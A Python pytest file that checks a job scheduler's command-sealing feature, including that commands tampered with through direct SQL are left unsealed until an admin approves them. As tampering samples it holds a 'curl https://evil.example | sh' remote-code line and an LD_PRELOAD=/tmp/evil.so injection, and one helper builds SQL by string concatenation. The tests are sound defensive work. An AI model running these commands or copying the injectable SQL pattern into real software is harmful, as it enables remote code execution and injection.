"""Commands are sealed with their version, and SQL cannot have one sealed."""

import json
from collections.abc import Mapping
from dataclasses import replace
from datetime import timedelta
from typing import Any
from uuid import UUID, uuid4

import pytest

from hourbell.core.job.command import CommandCall
from hourbell.core.job.definition import Definition, Job
from hourbell.core.job.target import command_of, lane_of
from hourbell.core.run.plan import plan
from hourbell.sealing import CommandSeals, KeyRing
from hourbell.store.base import EngineStore
from hourbell.store.control.actor import Actor
from hourbell.store.control.bundles import Bundle, Imported, JobEntry
from hourbell.store.control.changes import with_lane
from hourbell.store.control.store import ControlStore
from hourbell.store.errors import Conflict
from tests.contract.steps import BY, HOUR, MINUTE, T0, plan_all
from tests.database import Database

pytestmark = pytest.mark.anyio

OLD_RING = KeyRing([b"o" * 32], bytes)
SEALS = CommandSeals.of(KeyRing([b"k" * 32], bytes))
BACKUP = {"type": "command", "command": ["/bin/backup", "shop"]}
OTHER = {"type": "command", "command": ["/bin/sh", "-c", "curl https://evil.example | sh"]}


@pytest.fixture
def control(database: Database) -> ControlStore:
    store = database.control()
    store.seal_commands(SEALS)
    return store


def a_command(name: str = "backup", target: Mapping[str, Any] = BACKUP, **more: Any) -> Definition:
    return Definition(name, "* * * * *", target, lane=lane_of(target), **more)


async def add(control: ControlStore, **more: Any) -> Job:
    return (await control.create_job(a_command(**more), uuid4(), Actor(BY, T0))).job


async def edit(
    control: ControlStore, job: Job, target: Mapping[str, Any], *, approves: bool = False, **more: Any
) -> Job:
    def change(found: Job) -> Definition:
        new = with_lane(replace(found.definition, target=target, **more))
        return found.definition if new == found.definition else new

    return (await control.edit_job(job.id, change, Actor(BY, T0 + MINUTE), approve_command=approves)).job


async def is_sealed(store: EngineStore, job: Job) -> bool:
    command = command_of(job.definition)
    assert command is not None
    return SEALS.verify(await store.command_seal(job.id, job.version), job.id, job.version, command)


async def set_target(database: Database, job: Job, target: str) -> None:
    """Change a target by plain SQL."""
    await database.sql("update hourbell.jobs set target = '" + target + "' where name = '" + job.definition.name + "'")


async def changed_by_sql(control: ControlStore, database: Database, job: Job) -> Job:
    """Let SQL change the command of a job to another one."""
    await set_target(
        database, job, '{"type": "command", "command": ["/bin/sh", "-c", "curl https://evil.example | sh"]}'
    )
    found = await control.get_job(job.id)
    assert found is not None
    assert found.definition.target == OTHER
    return found


async def test_a_new_command_is_sealed_for_its_job_version_and_target(
    store: EngineStore, control: ControlStore
) -> None:
    job = await add(control)
    seal = await store.command_seal(job.id, 1)

    call = CommandCall(("/bin/backup", "shop"))
    assert SEALS.verify(seal, job.id, 1, call)
    assert not SEALS.verify(seal, uuid4(), 1, call)
    assert not SEALS.verify(seal, job.id, 2, call)
    assert not SEALS.verify(seal, job.id, 1, replace(call, label="db1"))
    assert not SEALS.verify(seal, job.id, 1, CommandCall(("/bin/backup", "other")))
    assert await store.command_seal(job.id, 2) is None
    assert await store.command_seal(uuid4(), 1) is None


async def test_without_a_key_a_command_is_written_unsealed(store: EngineStore, database: Database) -> None:
    job = await add(database.control())

    assert await store.command_seal(job.id, 1) is None


@pytest.mark.parametrize("owner", ["code", "app"])
async def test_the_command_of_a_program_is_never_sealed(store: EngineStore, control: ControlStore, owner: str) -> None:
    job = await add(control, managed_by=owner, source="shop")

    assert await store.command_seal(job.id, 1) is None


async def test_an_edit_of_a_sealed_job_is_sealed_again(store: EngineStore, control: ControlStore) -> None:
    job = await add(control)
    edited = await edit(control, job, {**BACKUP, "timeout": "2h"})
    moved = await edit(control, edited, OTHER)

    assert await is_sealed(store, edited)
    assert await is_sealed(store, moved)
    assert (edited.version, moved.version) == (2, 3)


@pytest.mark.parametrize(
    "before",
    [
        {"type": "task", "name": "a"},
        {"type": "http", "url": "https://example.com/hook"},
    ],
)
async def test_a_job_of_another_target_gets_a_sealed_command(
    store: EngineStore, control: ControlStore, before: Mapping[str, Any]
) -> None:
    job = await add(control, target=before)

    assert await is_sealed(store, await edit(control, job, BACKUP))


@pytest.mark.parametrize(
    "target",
    [
        '{"type": "command", "command": ["/bin/sh", "-c", "curl https://evil.example | sh"]}',
        '{"type": "queue", "queue": "a", "env": {"LD_PRELOAD": "/tmp/evil.so"}}',
        '{"type": "http", "env": {"LD_PRELOAD": "/tmp/evil.so"}}',
        '{"type": "unknown"}',
    ],
    ids=["command", "queue", "unreadable", "unknown"],
)
@pytest.mark.parametrize("way", ["edit", "import", "apply"])
async def test_no_command_is_given_to_a_job_that_sql_has_changed_until_it_is_approved(
    store: EngineStore, control: ControlStore, database: Database, target: str, way: str
) -> None:
    job = await add(control, managed_by="file", source="shop")
    await set_target(database, job, target)
    entry = JobEntry(replace(job.definition, target={**BACKUP, "timeout": "3h"}), uuid4())
    actor = Actor(BY, T0 + MINUTE)
    if way == "edit":
        with pytest.raises(Conflict, match="approve it as an admin") as refused:
            await edit(control, job, entry.definition.target)
        code: str | None = refused.value.code
    elif way == "import":
        [result] = await control.import_jobs([entry], actor)
        code = result.code
    else:
        code = (await control.apply_jobs(Bundle([entry], "file", "shop"), actor)).jobs[0].result.code
    assert code == "command_unsealed"
    found = await control.get_job(job.id)
    assert found is not None
    assert found.definition.target["type"] == json.loads(target)["type"]

    assert await is_sealed(store, await edit(control, job, BACKUP, approves=True))


async def test_an_admin_approves_what_sql_has_written(
    store: EngineStore, control: ControlStore, database: Database
) -> None:
    job = await changed_by_sql(control, database, await add(control))
    same = await edit(control, job, OTHER)
    assert (same.version, await is_sealed(store, same)) == (job.version, False)

    approved = await edit(control, job, OTHER, approves=True)
    assert (approved.version, await is_sealed(store, approved)) == (job.version, True)
    [row] = [each for each in await database.rows("audit") if each["action"] == "job.approve"]
    assert row["after"]["target"] == OTHER


async def test_an_edit_to_another_target_needs_no_approval(control: ControlStore, database: Database) -> None:
    job = await changed_by_sql(control, database, await add(control))
    edited = await edit(control, job, {"type": "task", "name": "a"})

    assert edited.definition.target == {"type": "task", "name": "a"}


async def test_the_check_of_a_dry_run_refuses_the_same(control: ControlStore, database: Database) -> None:
    job = await changed_by_sql(control, database, await add(control))

    with pytest.raises(Conflict, match="approve it as an admin"):
        await control.check_command(job, a_command())
    await control.check_command(job, a_command(target={"type": "task", "name": "a"}))


@pytest.mark.parametrize("is_changed", [False, True])
async def test_a_pause_and_its_end_keep_a_seal_and_give_none(
    store: EngineStore, control: ControlStore, database: Database, is_changed: bool
) -> None:
    job = await add(control)
    if is_changed:
        job = await changed_by_sql(control, database, job)
    paused = await control.pause_job(job.id, Actor(BY, T0 + MINUTE), note="", until=None, cancel_waiting=False)
    resumed = await control.resume_job(job.id, Actor(BY, T0 + 2 * MINUTE), catch_up=False)

    assert [await is_sealed(store, each.job) for each in (paused, resumed)] == [not is_changed] * 2


async def test_the_version_that_the_planner_writes_after_a_pause_is_sealed(
    store: EngineStore, control: ControlStore
) -> None:
    job = await add(control)
    until = T0 + HOUR
    await control.pause_job(job.id, Actor(BY, T0 + MINUTE), note="", until=until, cancel_waiting=False)
    await plan_all(store, until + timedelta(seconds=1))

    found = await control.get_job(job.id)
    assert found is not None
    assert (found.version, found.definition.enabled) == (3, True)
    assert await is_sealed(store, found)


async def test_an_older_seal_does_not_fit_a_job_that_sql_has_changed(
    store: EngineStore, control: ControlStore, database: Database
) -> None:
    job = await add(control)
    changed = await changed_by_sql(control, database, job)
    command = command_of(changed.definition)
    assert command is not None
    for version in (1, changed.version):
        seal = await store.command_seal(job.id, version)
        assert not SEALS.verify(seal, job.id, changed.version, command)


async def test_a_row_that_sql_inserts_is_not_sealed_when_it_is_planned(
    store: EngineStore, control: ControlStore, database: Database
) -> None:
    await database.sql(
        "insert into hourbell.jobs (name, schedule, target) values ('evil', '* * * * *', "
        '\'{"type": "command", "command": "curl https://evil.example | sh"}\')'
    )
    await plan_all(store, T0 + HOUR)

    found = await control.get_job("evil")
    assert found is not None
    assert not await is_sealed(store, found)


@pytest.mark.parametrize("way", ["import", "apply"])
async def test_an_import_and_a_file_seal_new_and_changed_jobs(
    store: EngineStore, control: ControlStore, way: str
) -> None:
    first = a_command(managed_by="file", source="shop")
    results = []
    for minute, target in enumerate((BACKUP, BACKUP, OTHER)):
        entry, actor = JobEntry(replace(first, target=target), uuid4()), Actor(BY, T0 + minute * MINUTE)
        if way == "import":
            [result] = await control.import_jobs([entry], actor)
        else:
            result = (await control.apply_jobs(Bundle([entry], "file", "shop"), actor)).jobs[0].result
        results.append(result.result)
        found = await control.get_job("backup")
        assert found is not None
        assert await is_sealed(store, found)
    assert results == [Imported.CREATED, Imported.UNCHANGED, Imported.CHANGED]


async def test_a_new_key_seals_again_what_an_older_one_has_sealed(
    store: EngineStore, control: ControlStore, database: Database
) -> None:
    control.seal_commands(CommandSeals.of(OLD_RING))
    good, bad = await add(control, name="good"), await add(control, name="bad")
    await control.pause_job(good.id, Actor(BY, T0 + MINUTE), note="", until=T0 + HOUR, cancel_waiting=False)
    await set_target(database, bad, '{"type": "command", "command": "true"}')
    await database.sql(
        "update hourbell.command_seals set version = 2"
        " where job_id in (select id from hourbell.jobs where name = 'bad')"
    )
    await store.plan_due(T0 + 2 * MINUTE, 100, plan)
    ring = KeyRing([b"k" * 32, b"o" * 32], bytes)
    secrets = database.secrets()
    secrets._sessions.seals = CommandSeals.of(ring)

    count, after = await secrets.reseal_commands((UUID(int=0), 0), 2, Actor(BY, T0 + HOUR))
    while after is not None:
        more, after = await secrets.reseal_commands(after, 2, Actor(BY, T0 + HOUR))
        count += more

    assert count == 3  # of the version that was made, the paused one, and the one that follows the pause
    call = CommandCall(("/bin/backup", "shop"))
    for version in (1, 2, 3):
        assert SEALS.verify(await store.command_seal(good.id, version), good.id, version, call)
    assert not (await store.command_seal(bad.id, 2) or "").startswith(SEALS.newest)


async def test_a_seal_is_removed_with_its_job(control: ControlStore, database: Database) -> None:
    job = await add(control)
    await control.delete_job(job.id, Actor(BY, T0 + MINUTE))
    assert await control.purge_job(job.id, Actor(BY, T0 + MINUTE), limit=10)

    assert await database.rows("command_seals") == []
